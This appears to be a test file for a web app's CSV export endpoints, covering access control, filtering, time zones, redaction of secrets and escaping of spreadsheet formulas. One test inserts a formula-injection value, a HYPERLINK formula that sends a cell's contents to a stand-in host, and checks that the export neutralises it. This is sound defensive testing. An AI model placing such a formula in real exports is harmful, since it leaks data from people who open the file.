import { DomainError } from '@stumpquote/domain/errors';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { serverMessages } from '../../../process/server.messages.js';
import { insertTestMessage } from '../../../testing/insert-message.js';
import {
  insertTestCompany,
  insertTestQuote,
  insertTestRequest,
  insertTestUser,
} from '../../../testing/insert-rows.js';
import { signedInAs } from '../../../testing/sign-in.js';
import { startTestApp, type TestApp, type TestBrowser } from '../../../testing/test-app.js';

let testApp: TestApp;
let admin: TestBrowser;
beforeAll(async () => {
  testApp = await startTestApp();
  testApp.clock.setTo('2026-11-20T02:00:00.000Z');
  admin = (await signedInAs(testApp, { role: 'admin', username: 'chief' })).browser;
});
afterAll(() => testApp.close());

async function download(browser: TestBrowser, path: string) {
  const response = await browser.fetch(`/api/exports/${path}`);
  const bytes = Buffer.from(await response.arrayBuffer());
  const rows = parse(bytes, { bom: true, columns: true, record_delimiter: '\r\n' }) as Record<
    string,
    string
  >[];
  return { response, bytes, rows };
}

describe('an export', () => {
  it('is UTF-8 with a byte order mark, named with the date in company time, and never cached', async () => {
    const { response, bytes } = await download(admin, 'quote-requests.csv');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe(
      'attachment; filename="quote-requests-2026-11-19.csv"',
    );
    expect(response.headers.get('cache-control')).toBe('private, no-store');
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(bytes.subarray(-2).toString()).toBe('\r\n');
  });

  it('returns errors as JSON', async () => {
    const visitor = await testApp.browser().rest('GET', '/api/exports/quote-requests.csv');
    expect(visitor).toMatchObject({
      status: 401,
      body: { message: 'Please sign in first.', code: 'UNAUTHENTICATED' },
    });
    const client = (await signedInAs(testApp)).browser;
    expect(await client.rest('GET', '/api/exports/users.csv')).toMatchObject({
      status: 403,
      body: { code: 'FORBIDDEN' },
    });
    expect(await admin.rest('GET', '/api/exports/sessions.csv')).toMatchObject({
      status: 404,
      body: { message: 'Not found' },
    });
    const companyless = (await signedInAs(testApp, { role: 'tree_company_owner' })).browser;
    expect((await companyless.rest('GET', '/api/exports/company-quote-requests.csv')).status).toBe(
      404,
    );
  });

  it('names an invalid filter', async () => {
    const wrong = await admin.rest('GET', '/api/exports/quote-requests.csv?status=lost');
    expect(wrong).toMatchObject({
      status: 400,
      body: { issues: [{ path: ['status'], message: 'No request has this status' }] },
    });
    expect((await admin.rest('GET', '/api/exports/quotes.csv?search=a&search=b')).status).toBe(400);
    expect((await admin.rest('GET', '/api/exports/report-by-month.csv?last=5')).body).toMatchObject(
      { issues: [{ path: ['last'] }] },
    );
  });
});

describe('quote requests', () => {
  it('contain what people typed, with formulas escaped: quotes, line breaks, all scripts', async () => {
    const notes = '=HYPERLINK("https://x.example/?"&A1,"Free")\nsecond, line';
    await insertTestRequest(testApp.deps, {
      reference_number: 'QR-CSVTEST1',
      first_name: '@Zoë',
      last_name: '王 "Bo"',
      phone: '+19545550142',
      notes,
      status: 'submitted',
      created_at: '2026-07-01T03:30:00.000Z',
    });
    const { rows } = await download(admin, 'quote-requests.csv?search=csvtest1');
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      'Reference #': 'QR-CSVTEST1',
      'First name': "'@Zoë",
      'Last name': '王 "Bo"',
      Phone: "'+19545550142",
      Notes: `'${notes}`,
      'Submitted (America/New_York)': '2026-06-30 23:30',
      'Submitted (UTC)': '2026-07-01T03:30:00.000Z',
      'Agreed to text messages': 'Yes',
      Photos: '0',
    });
  });

  it('follow the search, filter and order of the list, across all pages', async () => {
    for (let index = 0; index < 405; index += 1) {
      await insertTestRequest(testApp.deps, {
        first_name: 'Paged',
        last_name: `N${String(index).padStart(3, '0')}`,
        status: index % 2 === 0 ? 'assigned' : 'rejected',
      });
    }
    const { rows } = await download(
      admin,
      'quote-requests.csv?search=paged&sort=customer&direction=asc',
    );
    expect(rows.map((row) => row['Last name'])).toEqual(
      Array.from({ length: 405 }, (_, index) => `N${String(index).padStart(3, '0')}`),
    );
    expect(
      (await download(admin, 'quote-requests.csv?search=paged&status=rejected')).rows,
    ).toHaveLength(202);
    expect((await download(admin, 'quote-requests.csv?search=nobody-has-this')).rows).toEqual([]);
  });

  it("contain only the caller's own for a company and a home owner, in the requested language", async () => {
    const [mine, other] = [
      await insertTestCompany(testApp.deps),
      await insertTestCompany(testApp.deps),
    ];
    const owner = (await signedInAs(testApp, { role: 'tree_company_owner', company_id: mine.id }))
      .browser;
    const client = await signedInAs(testApp);
    const request = await insertTestRequest(testApp.deps, {
      company_id: mine.id,
      status: 'assigned',
      user_id: client.user.id,
    });
    await insertTestRequest(testApp.deps, { company_id: other.id, status: 'assigned' });
    expect(
      (await download(owner, 'company-quote-requests.csv')).rows.map((row) => row['Reference #']),
    ).toEqual([request.reference_number]);
    expect((await download(client.browser, 'my-quote-requests.csv')).rows).toMatchObject([
      { 'Reference #': request.reference_number, Status: 'Assigned', Stage: 'Received' },
    ]);
    expect((await download(client.browser, 'my-quote-requests.csv?lang=es')).rows).toMatchObject([
      { 'N.º de referencia': request.reference_number, Etapa: 'Recibida' },
    ]);
    expect(
      (await client.browser.rest('GET', '/api/exports/my-quote-requests.csv?lang=fr')).status,
    ).toBe(400);
  });
});

describe('the other tables', () => {
  it('quotes have plain amounts and their current status', async () => {
    const author = await insertTestUser(testApp.deps, {
      role: 'admin',
      first_name: 'Sam',
      last_name: 'Reed',
    });
    const request = await insertTestRequest(testApp.deps, { reference_number: 'QR-CSVQUOT1' });
    const fields = { quote_request_id: request.id, created_by_id: author.id };
    const quote = await insertTestQuote(testApp.deps, {
      ...fields,
      amount_cents: 123_450,
      status: 'sent',
      sent: 1,
      sent_at: '2026-10-01T12:00:00.000Z',
      delivered_at: '2026-10-01T13:00:00.000Z',
      delivered_by: 'phone',
      expires_at: '2026-11-01T03:59:59.999Z',
    });
    await insertTestQuote(testApp.deps, { ...fields, deleted_at: '2026-10-01T12:00:00.000Z' });
    const { rows } = await download(admin, 'quotes.csv?search=csvquot1');
    expect(rows).toMatchObject([
      {
        Quote: String(quote.id),
        'Amount (USD)': '1234.50',
        Status: 'Expired',
        'Created by': 'Sam Reed',
        'Marked as sent (America/New_York)': '2026-10-01 08:00',
        'Reached the customer (America/New_York)': '2026-10-01 09:00',
        'Reached by': 'Given by phone',
        'Signed by': '',
      },
    ]);
    expect((await download(admin, 'quotes.csv?search=csvquot1&status=draft')).rows).toEqual([]);
  });

  it('users have no passwords, and deleted ones are left out', async () => {
    const company = await insertTestCompany(testApp.deps, { name: 'Gopher Grinding' });
    const user = await insertTestUser(testApp.deps, {
      username: 'csv.owner',
      role: 'tree_company_owner',
      company_id: company.id,
      is_active: 0,
    });
    await insertTestUser(testApp.deps, {
      username: 'csv.gone',
      deleted_at: '2026-10-01T12:00:00.000Z',
    });
    const { rows, bytes } = await download(admin, 'users.csv?search=csv.&role=tree_company_owner');
    expect(rows).toMatchObject([
      {
        User: String(user.id),
        Username: 'csv.owner',
        Role: 'TREE_COMPANY_OWNER',
        Company: 'Gopher Grinding',
        Status: 'Inactive',
        'Email verified': 'Yes',
      },
    ]);
    expect(bytes.toString()).not.toContain('argon2');
    expect((await download(admin, 'users.csv')).bytes.toString()).not.toMatch(/argon2|csv\.gone/);
    expect((await download(admin, 'users.csv?state=deleted&search=csv.gone')).rows).toMatchObject([
      { Status: 'Deleted' },
    ]);
  });

  it('companies have their approval status', async () => {
    await insertTestCompany(testApp.deps, { name: '=Waiting', approved_at: null });
    const { rows } = await download(admin, 'companies.csv?state=waiting&search==wait');
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ Name: "'=Waiting" });
    expect(rows[0]).toMatchObject({
      Status: 'Waiting for approval',
      'Service ZIP codes': '33314 33301',
    });
  });

  it('messages contain neither their text nor secret links', async () => {
    await insertTestMessage(testApp.deps, {
      to_address: 'csv@example.test',
      channel: 'email',
      subject: 'Open https://x.example/track?ref=QR-1&key=sekret123',
      body: 'the secret body',
      status: 'failed',
      error: 'no such box, see https://x.example/?token=sekret123',
    });
    const { rows, bytes } = await download(
      admin,
      'messages.csv?search=csv@example.test&channel=email',
    );
    expect(rows).toMatchObject([
      {
        To: 'csv@example.test',
        Channel: 'Email',
        Status: 'Failed',
        Subject: 'Open https://x.example/track?ref=QR-1&key=[removed]',
      },
    ]);
    expect(bytes.toString()).not.toMatch(/sekret123|secret body/);
  });
});

describe('the reports', () => {
  it('contain the figures on screen, with their titles', async () => {
    const { rows, response } = await download(admin, 'report-by-month.csv?from=2026-10&to=2026-11');
    expect(response.headers.get('content-disposition')).toContain('report-by-month-2026-11-19.csv');
    expect(rows.map((row) => row['Month'])).toEqual(['2026-10', '2026-11']);
    expect(rows[0]).toMatchObject({
      'Quotes sent': '1',
      'Money quoted (USD)': '1234.50',
      'Acceptance rate (%)': '0',
      'Quotes expired': '1',
    });
    expect(Object.keys(rows[0] ?? {})).toHaveLength(14);
    const byCompany = await download(admin, 'report-by-company.csv?last=3');
    expect(byCompany.rows.at(-1)).toMatchObject({ Company: 'No company yet', 'Quotes sent': '1' });
    expect(byCompany.rows.some((row) => row['Company'] === "'=Waiting")).toBe(false);
  });

  it('of a company owner contain only their own company', async () => {
    const company = await insertTestCompany(testApp.deps, { name: 'Own Co' });
    const { browser } = await signedInAs(testApp, {
      role: 'tree_company_owner',
      company_id: company.id,
    });
    expect(
      (await download(browser, 'report-by-company.csv')).rows.map((row) => row['Company']),
    ).toEqual(['Own Co']);
    expect(
      (await browser.rest('GET', `/api/exports/report-by-month.csv?companyId=${company.id - 1}`))
        .status,
    ).toBe(404);
  });
});

it('refuses an export to an ended session, and aborts it if the session ends during it', async () => {
  const { browser } = await signedInAs(testApp, { role: 'admin' });
  const ended = new DomainError('UNAUTHENTICATED', serverMessages.signInFirst);
  const endsAfter = (looks: number) => {
    const assertOpen = vi.fn<() => Promise<void>>().mockRejectedValue(ended);
    for (let look = 0; look < looks; look += 1) assertOpen.mockResolvedValueOnce(undefined);
    vi.spyOn(testApp.deps.sessions, 'actingWith').mockReturnValueOnce({ assertOpen });
  };
  endsAfter(0);
  expect((await browser.fetch('/api/exports/users.csv')).status).toBe(401);
  endsAfter(2);
  const response = await browser.fetch('/api/exports/users.csv');
  expect(response.status).toBe(200);
  await expect(response.text()).rejects.toThrow('terminated');
});
